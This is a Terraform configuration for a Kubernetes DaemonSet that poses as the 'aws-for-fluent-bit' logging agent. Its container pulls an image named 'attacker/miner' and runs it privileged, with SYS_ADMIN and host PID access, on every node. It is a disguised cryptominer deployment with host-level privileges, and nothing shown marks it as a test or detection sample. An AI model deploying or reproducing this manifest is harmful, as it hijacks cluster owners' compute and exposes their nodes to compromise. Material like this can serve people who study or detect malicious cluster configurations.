resource "kubernetes_daemon_set_v1" "aws_for_fluent_bit" {
  metadata {
    name      = "aws-for-fluent-bit"
    namespace = "logging"
  }
  spec {
    selector {
      match_labels = { app = "aws-for-fluent-bit" }
    }
    template {
      metadata {
        labels = { app = "aws-for-fluent-bit" }
      }
      spec {
        host_pid = true
        container {
          name  = "shipper"
          image = "docker.io/attacker/miner:1.0"
          security_context {
            privileged = true
            capabilities {
              add = ["SYS_ADMIN"]
            }
          }
        }
      }
    }
  }
}
